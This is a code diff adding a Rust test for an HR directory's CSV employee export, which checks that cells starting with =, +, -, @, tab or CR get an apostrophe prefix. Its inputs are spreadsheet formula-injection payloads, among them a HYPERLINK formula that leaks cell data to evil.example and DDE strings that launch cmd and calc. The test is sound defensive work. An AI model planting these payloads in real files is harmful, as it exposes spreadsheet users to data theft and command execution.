@@ -235,6 +235,47 @@ async fn export_writes_every_matching_employee_as_csv() {
     );
 }
 
+/// A title or a name Okta sends is whatever someone typed into the HR system: in the export,
+/// cells a spreadsheet would run as a formula start with `'`, and every other cell is exact.
+#[tokio::test]
+async fn export_writes_cells_a_spreadsheet_would_run_as_text() {
+    let (desk, dir) = desk().await;
+    let mut body = user(1, "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
+    body["name"] = json!({"givenName": "+1+cmd|' /C calc'!A0", "familyName": "-2+3"});
+    body["urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"] = json!({
+        "department": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "division": "\t=1+1",
+        "employeeNumber": "\r=2",
+    });
+    body["addresses"] = json!([{"type": "work", "locality": "Saint-Étienne = home"}]);
+    desk.directory().create_user(&ctx("c"), body).await.unwrap();
+    let path = dir.path().join("employees.csv");
+    desk.export_employees(&query(StatusChoice::All, 50), &path)
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_path(&path).unwrap();
+    let headers = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| {
+        let i = headers.iter().position(|h| h == name).unwrap();
+        row[i].to_owned()
+    };
+    assert_eq!(cell("First name"), "'+1+cmd|' /C calc'!A0");
+    assert_eq!(cell("Last name"), "'-2+3");
+    assert_eq!(
+        cell("Job title"),
+        "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(cell("Department"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    // Trimmed by the mapping, so the tab and CR are gone, and what starts the cell is `=`.
+    assert_eq!(cell("Business unit"), "'=1+1");
+    assert_eq!(cell("Employee ID"), "'=2");
+    // Untouched: a value with `=` later on, and everything else.
+    assert_eq!(cell("Location"), "Saint-Étienne = home");
+    assert_eq!(cell("Email"), "person001@corp.example");
+    assert_eq!(cell("Status"), "active");
+}
+
 #[tokio::test]
 async fn connections_views_carry_base_urls_and_last_contact_and_refuse_bad_names() {
     let (desk, _dir) = desk().await;
